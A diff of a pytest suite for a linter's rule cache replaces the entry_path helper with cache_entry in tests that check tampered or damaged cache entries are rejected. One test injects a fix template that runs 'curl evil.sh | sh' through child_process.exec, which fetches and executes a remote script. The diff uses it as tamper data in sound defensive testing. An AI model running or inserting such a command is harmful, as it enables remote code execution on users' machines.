@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from secure_lint import validated_cache
-from secure_lint.rules import load_rules
+from secure_lint.rules import cache_entry, load_rules
 
 RULE_FILE = """\
 rules:
@@ -59,7 +59,7 @@ def test_an_unreadable_or_foreign_cache_entry_is_replaced(cache_home: Path, tmp_
     path = tmp_path / "acme.yaml"
     path.write_text(RULE_FILE.format(what="request data"))
     expected = load_rules([path], bundled=False, use_cache=False)
-    entry = validated_cache.entry_path("rules", [path])
+    entry = cache_entry([path])
     assert entry is not None
     entry.parent.mkdir(parents=True)
     entry.write_bytes(content)
@@ -126,7 +126,7 @@ def test_a_fix_template_that_is_not_in_the_rule_file_is_a_miss(
     path = tmp_path / "acme.yaml"
     path.write_text(RULE_FILE.format(what="request data"))
     expected = load_rules([path], bundled=False)
-    entry = validated_cache.entry_path("rules", [path])
+    entry = cache_entry([path])
     assert entry is not None
     cached = json.loads(validated_cache.read(entry) or b"")
     cached[0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
@@ -141,7 +141,7 @@ def test_a_damaged_entry_fails_its_digest(cache_home: Path, tmp_path: Path) -> N
     path = tmp_path / "acme.yaml"
     path.write_text(RULE_FILE.format(what="request data"))
     load_rules([path], bundled=False)
-    entry = validated_cache.entry_path("rules", [path])
+    entry = cache_entry([path])
     assert entry is not None
     data = entry.read_bytes()
     entry.write_bytes(data[:-10])  # truncated
